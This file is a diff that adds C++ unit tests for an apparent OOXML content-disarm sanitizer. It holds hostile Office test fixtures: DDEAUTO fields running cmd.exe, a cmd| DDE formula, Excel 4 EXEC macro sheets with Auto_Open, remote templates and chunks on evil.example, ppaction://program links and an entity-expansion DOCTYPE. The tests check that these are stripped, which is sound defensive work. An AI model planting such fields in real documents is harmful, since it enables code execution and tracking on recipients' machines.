@@ -1,0 +1,331 @@
+// OOXML cdr: hostile packages built at test time, outputs read back with libzip and plain
+// string searches (not sanso's own parsers).
+#include <gtest/gtest.h>
+
+#include "support/ooxml_fixture.h"
+#include "support/sanitize_runner.h"
+
+namespace sanso::sanitize {
+namespace {
+
+using test::buildDocx;
+using test::DocxSpec;
+using test::hasAction;
+using test::readZip;
+using test::sanitizeBytes;
+
+const std::string kRelType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+
+std::string run(const std::string& text) {
+  return "<w:r><w:t xml:space=\"preserve\">" + text + "</w:t></w:r>";
+}
+std::string paragraph(const std::string& runs) { return "<w:p>" + runs + "</w:p>"; }
+std::string fldChar(const std::string& type) {
+  return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
+}
+std::string instr(const std::string& text) {
+  return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
+}
+
+bool contains(const std::string& haystack, const std::string& needle) {
+  return haystack.find(needle) != std::string::npos;
+}
+
+// Every part's text, concatenated, for marker searches.
+std::string allParts(const std::map<std::string, std::string>& parts) {
+  std::string all;
+  for (const auto& [name, data] : parts) all += name + "\n" + data + "\n";
+  return all;
+}
+
+TEST(OoxmlSanitizer, MacroEnabledDocumentLosesVbaAndBecomesDocx) {
+  DocxSpec spec;
+  spec.macro_enabled = true;
+  spec.body_xml = paragraph(run("宗像市 情報セキュリティ基本方針"));
+  spec.extra_rels = "<Relationship Id=\"rIdVba\" "
+                    "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
+                    "Target=\"vbaProject.bin\"/>";
+  spec.extra_types = "<Override PartName=\"/word/vbaProject.bin\" "
+                     "ContentType=\"application/vnd.ms-office.vbaProject\"/>";
+  spec.extra_parts = {{"word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\"\nShell"}};
+  auto result = sanitizeBytes(buildDocx(spec), "macro.docm");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  EXPECT_EQ(result.report.input.type, "docm");
+  EXPECT_EQ(result.report.output->type, "docx");
+  EXPECT_TRUE(hasAction(result.report, "removed", "vba-project"));
+  auto parts = readZip(*result.output);
+  ASSERT_FALSE(parts.empty());
+  EXPECT_EQ(parts.count("word/vbaProject.bin"), 0u);
+  std::string all = allParts(parts);
+  EXPECT_FALSE(contains(all, "vbaProject"));
+  EXPECT_FALSE(contains(all, "macroEnabled"));
+  EXPECT_TRUE(contains(parts["[Content_Types].xml"], "wordprocessingml.document.main+xml"));
+  EXPECT_TRUE(contains(parts["word/document.xml"], "宗像市 情報セキュリティ基本方針"));
+}
+
+TEST(OoxmlSanitizer, DangerousFieldsKeepOnlyTheirResult) {
+  DocxSpec spec;
+  spec.body_xml =
+      paragraph(fldChar("begin") + instr(" DD") + instr("EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ") +
+                instr("\"/k calc\" ") + fldChar("separate") + run("表示結果") + fldChar("end")) +
+      paragraph("<w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\evil\\\\share\\\\x.docx&quot; \">" +
+                run("取込") + "</w:fldSimple>") +
+      paragraph(fldChar("begin") + instr(" PAGE ") + fldChar("separate") + run("1") +
+                fldChar("end")) +
+      // The type of the outer field comes from a nested field: never allowed.
+      paragraph(fldChar("begin") + fldChar("begin") + instr("QUOTE \"DDEAUTO\"") +
+                fldChar("separate") + run("DDEAUTO") + fldChar("end") +
+                instr(" calc ") + fldChar("separate") + run("外側") + fldChar("end")) +
+      paragraph(fldChar("begin") + instr("ddeauto \"c:\\\\x.exe\"") + fldChar("end"));
+  auto result = sanitizeBytes(buildDocx(spec), "fields.docx");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  EXPECT_TRUE(hasAction(result.report, "neutralized", "dde-field"));
+  EXPECT_TRUE(hasAction(result.report, "neutralized", "include-field"));
+  std::string doc = readZip(*result.output)["word/document.xml"];
+  for (const char* marker : {"DDE", "dde", "INCLUDETEXT", "cmd.exe", "calc", "evil", "x.exe"}) {
+    EXPECT_FALSE(contains(doc, marker)) << marker << " left in " << doc;
+  }
+  EXPECT_TRUE(contains(doc, "表示結果"));
+  EXPECT_TRUE(contains(doc, "取込"));
+  EXPECT_TRUE(contains(doc, "外側"));
+  EXPECT_TRUE(contains(doc, " PAGE "));
+}
+
+TEST(OoxmlSanitizer, ExternalRelationshipsGoExceptBrowsingHyperlinks) {
+  DocxSpec spec;
+  spec.body_xml =
+      paragraph("<w:hyperlink r:id=\"rIdWeb\">" + run("市のサイト") + "</w:hyperlink>") +
+      paragraph("<w:hyperlink r:id=\"rIdFile\">" + run("共有フォルダ") + "</w:hyperlink>") +
+      paragraph("<w:hyperlink r:id=\"rIdExe\">" + run("更新プログラム") + "</w:hyperlink>") +
+      paragraph("<w:r><w:drawing><a:blip r:link=\"rIdExtImg\"/></w:drawing></w:r>") +
+      "<w:altChunk r:id=\"rIdChunk\"/>";
+  spec.extra_rels =
+      "<Relationship Id=\"rIdWeb\" Type=\"" + kRelType +
+      "hyperlink\" Target=\"https://www.city.munakata.lg.jp/\" TargetMode=\"External\"/>"
+      "<Relationship Id=\"rIdFile\" Type=\"" + kRelType +
+      "hyperlink\" Target=\"file:///C:/Windows/System32/calc.exe\" TargetMode=\"External\"/>"
+      "<Relationship Id=\"rIdExe\" Type=\"" + kRelType +
+      "hyperlink\" Target=\"http://example.com/update.exe\" TargetMode=\"External\"/>"
+      "<Relationship Id=\"rIdExtImg\" Type=\"" + kRelType +
+      "image\" Target=\"http://tracker.example/pixel.png\" TargetMode=\"External\"/>"
+      "<Relationship Id=\"rIdChunk\" Type=\"" + kRelType +
+      "aFChunk\" Target=\"http://evil.example/chunk.html\" TargetMode=\"External\"/>";
+  spec.settings_xml = "<w:attachedTemplate r:id=\"rIdTpl\"/>";
+  spec.settings_rels = "<Relationship Id=\"rIdTpl\" Type=\"" + kRelType +
+                       "attachedTemplate\" Target=\"http://evil.example/t.dotm\" "
+                       "TargetMode=\"External\"/>";
+  auto result = sanitizeBytes(buildDocx(spec), "links.docx");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  auto parts = readZip(*result.output);
+  std::string all = allParts(parts);
+  EXPECT_TRUE(contains(all, "https://www.city.munakata.lg.jp/"));
+  for (const char* marker : {"calc.exe", "update.exe", "tracker.example", "evil.example",
+                             "attachedTemplate", "altChunk", "r:link"}) {
+    EXPECT_FALSE(contains(all, marker)) << marker;
+  }
+  EXPECT_TRUE(hasAction(result.report, "removed", "external-template"));
+  EXPECT_TRUE(hasAction(result.report, "removed", "external-image"));
+  EXPECT_TRUE(hasAction(result.report, "neutralized", "launch-link"));
+  EXPECT_TRUE(contains(parts["word/document.xml"], "共有フォルダ"));  // text stays
+
+  Options no_links;
+  no_links.keep_hyperlinks = false;
+  auto plain = sanitizeBytes(buildDocx(spec), "links.docx", no_links);
+  ASSERT_TRUE(plain.output.has_value());
+  std::string plain_all = allParts(readZip(*plain.output));
+  EXPECT_FALSE(contains(plain_all, "city.munakata"));
+  EXPECT_TRUE(contains(plain_all, "市のサイト"));
+}
+
+TEST(OoxmlSanitizer, EmbeddedOleObjectKeepsItsPreviewPicture) {
+  DocxSpec spec;
+  spec.body_xml = paragraph(
+      "<w:r><w:object><v:shape id=\"_x0000_i1025\" style=\"width:60pt;height:40pt\">"
+      "<v:imagedata r:id=\"rIdImg\" o:title=\"\"/></v:shape>"
+      "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" "
+      "DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdOle\"/></w:object></w:r>");
+  spec.extra_rels = "<Relationship Id=\"rIdImg\" Type=\"" + kRelType +
+                    "image\" Target=\"media/image1.png\"/><Relationship Id=\"rIdOle\" Type=\"" +
+                    kRelType + "oleObject\" Target=\"embeddings/oleObject1.bin\"/>";
+  spec.extra_parts = {{"word/media/image1.png", test::tinyPng()},
+                      {"word/embeddings/oleObject1.bin", std::string("\xD0\xCF\x11\xE0payload")}};
+  auto result = sanitizeBytes(buildDocx(spec), "ole.docx");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  EXPECT_TRUE(hasAction(result.report, "removed", "ole-object"));
+  auto parts = readZip(*result.output);
+  EXPECT_EQ(parts.count("word/embeddings/oleObject1.bin"), 0u);
+  ASSERT_EQ(parts.count("word/media/image1.png"), 1u);
+  EXPECT_FALSE(contains(parts["word/media/image1.png"], "Secret"));  // re-encoded
+  std::string doc = parts["word/document.xml"];
+  EXPECT_FALSE(contains(doc, "OLEObject"));
+  EXPECT_TRUE(contains(doc, "imagedata"));
+  EXPECT_TRUE(contains(doc, "rIdImg"));
+}
+
+TEST(OoxmlSanitizer, PersonalMetadataIsRemovedByDefault) {
+  DocxSpec spec;
+  spec.body_xml = paragraph(run("本文"));
+  auto result = sanitizeBytes(buildDocx(spec), "meta.docx");
+  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
+  auto parts = readZip(*result.output);
+  std::string core = parts["docProps/core.xml"];
+  std::string app = parts["docProps/app.xml"];
+  EXPECT_TRUE(contains(core, "予算資料"));
+  EXPECT_FALSE(contains(core, "山田太郎"));
+  EXPECT_FALSE(contains(core, "佐藤花子"));
+  EXPECT_FALSE(contains(app, "宗像市役所"));
+  EXPECT_FALSE(contains(app, "HyperlinkBase"));
+  EXPECT_TRUE(hasAction(result.report, "removed", "metadata"));
+
+  Options keep;
+  keep.remove_metadata = false;
+  auto kept = sanitizeBytes(buildDocx(spec), "meta.docx", keep);
+  std::string kept_core = readZip(*kept.output)["docProps/core.xml"];
+  EXPECT_TRUE(contains(kept_core, "山田太郎"));
+  EXPECT_FALSE(contains(readZip(*kept.output)["docProps/app.xml"], "HyperlinkBase"));
+}
+
+TEST(OoxmlSanitizer, CleanDocumentIsReportedClean) {
+  DocxSpec spec;
+  spec.body_xml = paragraph(run("問題のない文書"));
+  DocxSpec settings_only = spec;
+  Options keep;
+  keep.remove_metadata = false;
+  auto result = sanitizeBytes(buildDocx(spec), "clean.docx", keep);
+  ASSERT_TRUE(result.output.has_value());
+  // HyperlinkBase in the fixture's app.xml is always removed, so the verdict says so.
+  EXPECT_TRUE(hasAction(result.report, "removed", "metadata"));
+  EXPECT_TRUE(contains(readZip(*result.output)["word/document.xml"], "問題のない文書"));
+}
+
+TEST(OoxmlSanitizer, WorkbookAutoRunMacroSheetsExternalLinksAndDde) {
+  test::XlsxSpec spec;
+  spec.sheet_data =
+      "<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B2)</f><v>3</v></c>"
+      "<c r=\"B1\"><f>cmd|' /c calc'!A0</f><v>0</v></c>"
+      "<c r=\"C1\"><f>[1]Sheet1!A1</f><v>42</v></c></row>";
+  spec.extra_sheets = "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rIdM\"/>"
+                      "<sheet name=\"後\" sheetId=\"3\" r:id=\"rId3\"/>";
+  spec.defined_names = "<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
+                       "<definedName name=\"auto_open2\">Macro1!$A$1</definedName>"
+                       "<definedName name=\"範囲\" localSheetId=\"2\">後!$A$1</definedName>";
+  spec.extra_rels =
+      "<Relationship Id=\"rIdM\" Type=\"http://schemas.microsoft.com/office/2006/relationships/"
+      "xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>"
+      "<Relationship Id=\"rId3\" Type=\"" + kRelType +
+      "worksheet\" Target=\"worksheets/sheet1.xml\"/>"
+      "<Relationship Id=\"rIdX\" Type=\"" + kRelType +
+      "externalLink\" Target=\"externalLinks/externalLink1.xml\"/>";
+  spec.extra_types = "<Override PartName=\"/xl/macrosheets/sheet1.xml\" "
+                     "ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
+                     "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" "
+                     "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml."
+                     "externalLink+xml\"/>";
+  spec.extra_parts = {
+      {"xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm=\"x\">=EXEC(\"calc\")</xm:macrosheet>"},
+      {"xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"}};
+  auto result = sanitizeBytes(test::buildXlsx(spec), "book.xlsm");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  EXPECT_TRUE(hasAction(result.report, "removed", "excel4-macro-sheet"));
+  EXPECT_TRUE(hasAction(result.report, "removed", "auto-run-name"));
+  EXPECT_TRUE(hasAction(result.report, "removed", "external-link"));
+  EXPECT_TRUE(hasAction(result.report, "removed", "external-formula"));
+  auto parts = readZip(*result.output);
+  std::string all = allParts(parts);
+  for (const char* marker : {"macrosheet", "Auto_Open", "auto_open", "EXEC", "cmd|", "[1]",
+                             "externalLink", "Macro1"}) {
+    EXPECT_FALSE(contains(all, marker)) << marker;
+  }
+  std::string workbook = parts["xl/workbook.xml"];
+  EXPECT_TRUE(contains(workbook, "localSheetId=\"1\""));  // renumbered after the macro sheet
+  EXPECT_TRUE(contains(workbook, "activeTab=\"0\""));
+  std::string sheet = parts["xl/worksheets/sheet1.xml"];
+  EXPECT_TRUE(contains(sheet, "SUM(B1:B2)"));
+  EXPECT_TRUE(contains(sheet, "<v>42</v>"));
+}
+
+TEST(OoxmlSanitizer, PresentationActionsAndOleFrames) {
+  test::PptxSpec spec;
+  auto shape = [](const std::string& id, const std::string& link) {
+    return "<p:sp><p:nvSpPr><p:cNvPr id=\"" + id + "\" name=\"s\">" + link +
+           "</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>"
+           "<a:p><a:r><a:t>スライド" + id + "</a:t></a:r></a:p></p:txBody></p:sp>";
+  };
+  spec.shapes_xml =
+      shape("2", "<a:hlinkClick r:id=\"\" action=\"ppaction://program\"/>") +
+      shape("3", "<a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=Run\"/>") +
+      shape("4", "<a:hlinkClick r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/>") +
+      "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"5\" name=\"ole\"/><p:cNvGraphicFramePr/>"
+      "<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"1\" y=\"2\"/><a:ext cx=\"3\" cy=\"4\"/>"
+      "</p:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/"
+      "2006/ole\"><p:oleObj r:id=\"rIdOle\" progId=\"Package\"><p:embed/><p:pic><p:nvPicPr>"
+      "<p:cNvPr id=\"6\" name=\"\"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>"
+      "<a:blip r:embed=\"rIdImg\"/></p:blipFill><p:spPr/></p:pic></p:oleObj></a:graphicData>"
+      "</a:graphic></p:graphicFrame>";
+  spec.slide_rels = "<Relationship Id=\"rIdOle\" Type=\"" + kRelType +
+                    "oleObject\" Target=\"../embeddings/oleObject1.bin\"/>"
+                    "<Relationship Id=\"rIdImg\" Type=\"" + kRelType +
+                    "image\" Target=\"../media/image1.png\"/>";
+  spec.extra_parts = {{"ppt/media/image1.png", test::tinyPng()},
+                      {"ppt/embeddings/oleObject1.bin", "ole"}};
+  auto result = sanitizeBytes(test::buildPptx(spec), "deck.pptx");
+  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
+  EXPECT_TRUE(hasAction(result.report, "neutralized", "presentation-action"));
+  auto parts = readZip(*result.output);
+  std::string slide = parts["ppt/slides/slide1.xml"];
+  EXPECT_FALSE(contains(slide, "ppaction://program"));
+  EXPECT_FALSE(contains(slide, "ppaction://macro"));
+  EXPECT_TRUE(contains(slide, "hlinkshowjump"));
+  EXPECT_FALSE(contains(slide, "oleObj"));
+  EXPECT_TRUE(contains(slide, "rIdImg")) << slide;  // the preview picture stands in
+  EXPECT_TRUE(contains(slide, "a:xfrm"));
+  EXPECT_EQ(parts.count("ppt/embeddings/oleObject1.bin"), 0u);
+  for (const char* text : {"スライド2", "スライド3", "スライド4"}) EXPECT_TRUE(contains(slide, text));
+}
+
+TEST(OoxmlSanitizer, RefusesDoctypeAndBrokenPackages) {
+  DocxSpec spec;
+  spec.body_xml = paragraph(run("x"));
+  std::string good = buildDocx(spec);
+  auto parts = readZip(good);
+  parts["word/document.xml"] =
+      "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>" +
+      parts["word/document.xml"].substr(parts["word/document.xml"].find("<w:document"));
+  test::PartList list(parts.begin(), parts.end());
+  auto doctype = sanitizeBytes(test::buildZip(list), "bomb.docx");
+  EXPECT_EQ(doctype.report.verdict, Verdict::kBlocked);
+  EXPECT_EQ(doctype.report.reason, "xml-doctype");
+  EXPECT_FALSE(doctype.output.has_value());
+
+  parts = readZip(good);
+  parts.erase("[Content_Types].xml");
+  test::PartList missing(parts.begin(), parts.end());
+  auto broken = sanitizeBytes(test::buildZip(missing), "broken.docx");
+  EXPECT_EQ(broken.report.verdict, Verdict::kBlocked);
+  EXPECT_EQ(broken.report.reason, "malformed-ooxml");
+}
+
+TEST(OoxmlSanitizer, TextMethodExtractsJapaneseText) {
+  DocxSpec spec;
+  spec.body_xml = paragraph(run("情報資産の") + run("機密性")) +
+                  paragraph(fldChar("begin") + instr(" DDEAUTO calc ") + fldChar("separate") +
+                            run("結果") + fldChar("end"));
+  Options options;
+  options.method = Method::kText;
+  auto result = sanitizeBytes(buildDocx(spec), "text.docx", options);
+  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
+  EXPECT_EQ(result.report.output->type, "text");
+  EXPECT_TRUE(contains(*result.output, "情報資産の機密性\n"));
+  EXPECT_TRUE(contains(*result.output, "結果"));
+  EXPECT_FALSE(contains(*result.output, "DDEAUTO"));
+
+  test::XlsxSpec book;
+  book.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>氏名</t></is></c>"
+                    "<c r=\"C1\"><v>12</v></c></row>";
+  auto sheet = sanitizeBytes(test::buildXlsx(book), "book.xlsx", options);
+  ASSERT_TRUE(sheet.output.has_value()) << sheet.report.reason;
+  EXPECT_TRUE(contains(*sheet.output, "## データ\n氏名\t\t12\n"));
+}
+
+}  // namespace
+}  // namespace sanso::sanitize
